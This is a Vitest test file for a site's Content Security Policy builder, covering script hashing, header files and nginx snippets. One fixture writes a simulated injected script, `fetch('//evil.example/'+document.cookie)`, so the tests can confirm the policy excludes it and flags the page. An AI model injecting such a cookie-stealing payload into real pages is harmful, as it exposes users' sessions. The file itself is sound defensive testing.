import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { filesUnder } from '../../src/site/page-files.ts';
import {
  buildSecurityHeaders,
  cspHashSource,
  pagesWithUnknownScripts,
  siteScriptHashes,
  siteStyleHashes,
  writeSecurityHeaderFiles,
} from '../../src/site/build-security-headers.ts';
import {
  foldFiltersScript,
  foldingFiltersScript,
  holidayOpenedFilteredScript,
  inlineScripts,
  listingOpenedOnMapScript,
} from '../../src/site/inline-scripts.ts';
import { islandScripts } from '../../src/site/island-scripts.ts';
import {
  contentSecurityPolicy,
  headersFile,
  inlineScriptSources,
  nginxHeadersSnippet,
  parseHeadersFile,
  securityHeaders,
} from '../../src/site/security-headers.ts';

/*
 * The security policy shared by the site server and the static hosts' files: built from its
 * inputs, with the site's own inline scripts hashed, whatever the pages of a build hold.
 */

const directives = (policy: string) =>
  new Map(
    policy.split(';').map((directive) => {
      const [name = '', ...sources] = directive.trim().split(/\s+/);
      return [name, sources] as const;
    }),
  );

describe('contentSecurityPolicy', () => {
  it('allows scripts from the site and the given hashes only', () => {
    const policy = directives(
      contentSecurityPolicy({
        contentServiceUrl: 'https://api.immo.be/v1/',
        inlineScriptHashes: ["'sha256-AAA='", "'sha256-AAA='"],
      }),
    );
    expect(policy.get('script-src')).toEqual(["'self'", "'sha256-AAA='"]);
    expect(policy.get('default-src')).toEqual(["'self'"]);
  });

  it('lets the browser call the content service and show its pictures by origin', () => {
    const policy = directives(
      contentSecurityPolicy({ contentServiceUrl: 'https://api.immo.be/v1/' }),
    );
    expect(policy.get('connect-src')).toEqual(["'self'", 'https://api.immo.be']);
    expect(policy.get('img-src')).toEqual(["'self'", 'data:', 'blob:', 'https://api.immo.be']);
  });

  it("adds a map provider's origin when the maps use its style", () => {
    const policy = directives(
      contentSecurityPolicy({
        contentServiceUrl: 'https://api.immo.be',
        mapStyleUrl: 'https://tiles.example.org/styles/light.json',
      }),
    );
    expect(policy.get('connect-src')).toEqual([
      "'self'",
      'https://api.immo.be',
      'https://tiles.example.org',
    ]);
  });

  it('leaves out a content service address that is not an absolute http(s) URL', () => {
    const policy = directives(contentSecurityPolicy({ contentServiceUrl: '/api' }));
    expect(policy.get('connect-src')).toEqual(["'self'"]);
  });

  it('keeps stylesheets to the site while style attributes stay allowed', () => {
    const policy = directives(contentSecurityPolicy({ contentServiceUrl: 'https://api.immo.be' }));
    expect(policy.get('style-src-elem')).toEqual(["'self'"]);
    expect(policy.get('style-src')).toEqual(["'self'", "'unsafe-inline'"]);
    expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
  });
});

describe('inlineScriptSources', () => {
  it('finds classic and module inline scripts, not external ones nor data blocks', () => {
    const html =
      '<script>a()</script><script type="module">b()</script>' +
      '<script type="text/javascript">c()</script><script src="/x.js"></script>' +
      '<script type="module" src="/y.js"></script>' +
      '<script type="application/ld+json">{"@type":"Thing"}</script>' +
      "<script type='application/json'>{}</script><script type=importmap>{}</script>";
    expect(inlineScriptSources(html)).toEqual(['a()', 'b()', 'c()', '{}']);
  });

  it('keeps the text exactly, whitespace included, and reads attributes in any case', () => {
    expect(inlineScriptSources('<SCRIPT TYPE="Module">\n  go();\n</SCRIPT >')).toEqual([
      '\n  go();\n',
    ]);
  });

  it('does not take a data-src attribute for src', () => {
    expect(inlineScriptSources('<script data-src="/x.js">run()</script>')).toEqual(['run()']);
  });
});

describe('cspHashSource', () => {
  it('is the base64 SHA-256 of the text as CSP writes it', () => {
    // The SHA-256 of the empty string, a fixed test vector.
    expect(cspHashSource('')).toBe("'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='");
    expect(cspHashSource('é')).not.toBe(cspHashSource('e'));
  });
});

describe('headersFile and nginxHeadersSnippet', () => {
  const headers = securityHeaders({ contentServiceUrl: 'https://api.immo.be' });

  it('writes one rule for every path in the _headers format', () => {
    const lines = headersFile(headers).trimEnd().split('\n');
    expect(lines[0]).toBe('/*');
    expect(lines.slice(1)).toEqual(
      Object.entries(headers).map(([name, value]) => `  ${name}: ${value}`),
    );
  });

  it('writes one quoted add_header line per header, sent on errors too', () => {
    const lines = nginxHeadersSnippet(headers).trimEnd().split('\n').slice(1);
    expect(lines).toHaveLength(Object.keys(headers).length);
    expect(lines).toContain('add_header X-Content-Type-Options "nosniff" always;');
    for (const line of lines) expect(line).toMatch(/^add_header [\w-]+ "[^"]*" always;$/);
  });

  it('reads the headers back from a _headers file it wrote, for every path only', () => {
    expect(parseHeadersFile(headersFile(headers))).toEqual(headers);
    expect(
      parseHeadersFile(
        '# note\n/assets/*\n  Cache-Control: immutable\n/*\n  X-Frame-Options: DENY\n',
      ),
    ).toEqual({ 'X-Frame-Options': 'DENY' });
    expect(parseHeadersFile('/assets/*\n  Cache-Control: immutable\n')).toBeUndefined();
  });
});

describe("the site's inline scripts", () => {
  it('are hashed from their source, one hash each', () => {
    expect(inlineScripts).toEqual(
      expect.arrayContaining([
        foldingFiltersScript,
        foldFiltersScript,
        holidayOpenedFilteredScript,
        listingOpenedOnMapScript,
      ]),
    );
    const all = [...inlineScripts, ...islandScripts];
    expect(siteScriptHashes()).toEqual(all.map(cspHashSource).sort());
    expect(new Set(siteScriptHashes()).size).toBe(all.length);
  });

  it("include Astro's island runtime and the directives, as Astro writes them", async () => {
    const { default: runtime } = await import('astro/runtime/server/astro-island.prebuilt.js');
    const { ISLAND_STYLES } = await import('astro/runtime/server/astro-island-styles.js');
    expect(siteScriptHashes()).toContain(cspHashSource(runtime));
    expect(siteStyleHashes()).toEqual([cspHashSource(ISLAND_STYLES)]);
    // client:paint as Astro bundles it: an IIFE that registers the directive by its name.
    const paint = islandScripts.find((script) => /astro:"\s*\+\s*"paint"|astro:paint/.test(script));
    expect(paint).toBeDefined();
    expect(siteScriptHashes()).toContain(cspHashSource(paint!));
  });

  it('are the only ones the templates write: any other inline script is a data block', async () => {
    // An inline script written in a template (define:vars, a literal body) would need a hash
    // the policy does not have; the templates render the constants of inline-scripts.ts.
    const templates = filesUnder(join(process.cwd(), 'src'), (name) => name.endsWith('.astro'));
    const written: string[] = [];
    for (const file of templates) {
      const text = await readFile(file, 'utf8');
      for (const [tag] of text.matchAll(/<script\b[^>]*>/g)) {
        if (/type="application\/(ld\+)?json"/.test(tag)) continue;
        if (!/\bis:inline\b/.test(tag)) {
          // A bundled module: Astro writes it as a file (never inlined: astro.config.mjs).
          expect(tag, file).toBe('<script>');
          continue;
        }
        const constant = /^<script is:inline set:html=\{(\w+)\} \/>$/.exec(tag)?.[1];
        expect(constant, `${file}: ${tag}`).toBeDefined();
        written.push(constant!);
        expect(text, file).toMatch(
          new RegExp(
            `import \\{[^}]*\\b${constant}\\b[^}]*\\} from '[./]*site/inline-scripts\\.ts'`,
          ),
        );
      }
    }
    expect(written.sort()).toEqual([
      'foldFiltersScript',
      'foldingFiltersScript',
      'holidayOpenedFilteredScript',
      'listingOpenedOnMapScript',
    ]);
  });
});

describe('the header files of a build', () => {
  const env = { CONTENT_SERVICE_URL: 'https://api.immo.be' };
  let root: string;
  let clean: string;

  beforeEach(async () => {
    [root, clean] = await Promise.all([
      mkdtemp(join(tmpdir(), 'csp-build-')),
      mkdtemp(join(tmpdir(), 'csp-clean-')),
    ]);
    await mkdir(join(root, 'nl', 'kopen'), { recursive: true });
    await mkdir(join(root, 'nl', 'aanbod', '7'), { recursive: true });
    await writeFile(
      join(root, 'nl', 'kopen', 'index.html'),
      `<script type="application/ld+json">{"@type":"Thing"}</script>` +
        `<script>${foldFiltersScript}</script><script type="module" src="/a.js"></script>`,
    );
    // What a hostile record would bring, had the sanitizer let it through.
    await writeFile(
      join(root, 'nl', 'aanbod', '7', 'index.html'),
      `<p>Villa</p><script>fetch('//evil.example/'+document.cookie)</script>`,
    );
  });

  afterEach(async () => {
    await Promise.all([root, clean].map((dir) => rm(dir, { recursive: true, force: true })));
  });

  it("allow exactly the site's own inline scripts and name the content service", async () => {
    await writeSecurityHeaderFiles(root, env);
    const file = await readFile(join(root, '_headers'), 'utf8');
    const policy = directives(parseHeadersFile(file)!['Content-Security-Policy']!);
    expect(policy.get('script-src')).toEqual(["'self'", ...siteScriptHashes()]);
    expect(policy.get('connect-src')).toEqual(["'self'", 'https://api.immo.be']);
    expect(await readFile(join(root, 'nginx-security-headers.conf'), 'utf8')).toContain(
      'add_header Content-Security-Policy',
    );
  });

  it('are the same whether or not a page carries a script that came with content', async () => {
    await Promise.all([writeSecurityHeaderFiles(root, env), writeSecurityHeaderFiles(clean, env)]);
    for (const name of ['_headers', 'nginx-security-headers.conf']) {
      expect(await readFile(join(root, name), 'utf8')).toBe(
        await readFile(join(clean, name), 'utf8'),
      );
    }
    const policy = parseHeadersFile(await readFile(join(root, '_headers'), 'utf8'))!;
    expect(policy['Content-Security-Policy']).not.toContain(
      cspHashSource("fetch('//evil.example/'+document.cookie)"),
    );
  });

  it('drop, in the next build, the hash of a script the site no longer writes', async () => {
    // The published build, whose files an incremental build starts from (a linked copy).
    await writeSecurityHeaderFiles(root, env);
    const scriptsOf = async () =>
      directives(
        parseHeadersFile(await readFile(join(root, '_headers'), 'utf8'))![
          'Content-Security-Policy'
        ]!,
      ).get('script-src');
    expect(await scriptsOf()).toContain(cspHashSource(holidayOpenedFilteredScript));
    // The code of the next build writes one script fewer.
    vi.resetModules();
    vi.doMock('../../src/site/inline-scripts.ts', async (original) => ({
      ...(await original<{ inlineScripts: readonly string[] }>()),
      inlineScripts: [foldFiltersScript],
    }));
    try {
      const next = await import('../../src/site/build-security-headers.ts');
      await next.writeSecurityHeaderFiles(root, env);
    } finally {
      vi.doUnmock('../../src/site/inline-scripts.ts');
      vi.resetModules();
    }
    expect(await scriptsOf()).toEqual([
      "'self'",
      ...[foldFiltersScript, ...islandScripts].map(cspHashSource).sort(),
    ]);
  });

  it('name the pages with an inline script the site does not write, and only those', async () => {
    const pages = filesUnder(root, (name) => name.endsWith('.html'));
    expect(await pagesWithUnknownScripts(pages)).toEqual([
      join(root, 'nl', 'aanbod', '7', 'index.html'),
    ]);
  });

  it('tell static hosts to revalidate the map marker snapshots, which keep their names', async () => {
    await writeSecurityHeaderFiles(root, env);
    const file = await readFile(join(root, '_headers'), 'utf8');
    expect(file).toMatch(/^\/markers\/\*\n {2}Cache-Control: public, max-age=0, s-maxage=\d+,.*$/m);
    // The rule for every path still reads back whole, without the snapshot rule mixed in.
    const everyPath = parseHeadersFile(file);
    expect(everyPath?.['Content-Security-Policy']).toContain(
      "connect-src 'self' https://api.immo.be",
    );
    expect(everyPath?.['Cache-Control']).toBeUndefined();
  });

  it("serve the build's own headers, made with the build's environment, over this one", async () => {
    await writeSecurityHeaderFiles(root, { PUBLIC_CONTENT_SERVICE_URL: 'https://api.immo.be' });
    const served = await buildSecurityHeaders(root, {
      CONTENT_SERVICE_URL: 'http://10.0.0.5:4322',
    });
    expect(served.from).toBe('build');
    expect(served.headers['Content-Security-Policy']).toContain(
      "connect-src 'self' https://api.immo.be;",
    );
  });

  it("are made by the site server from this environment and the site's scripts when the build wrote none", async () => {
    const served = await buildSecurityHeaders(root, {
      CONTENT_SERVICE_URL: 'http://10.0.0.5:4322',
    });
    expect(served.from).toBe('source');
    const policy = directives(served.headers['Content-Security-Policy']!);
    expect(policy.get('connect-src')).toEqual(["'self'", 'http://10.0.0.5:4322']);
    expect(policy.get('script-src')).toEqual(["'self'", ...siteScriptHashes()]);
  });
});
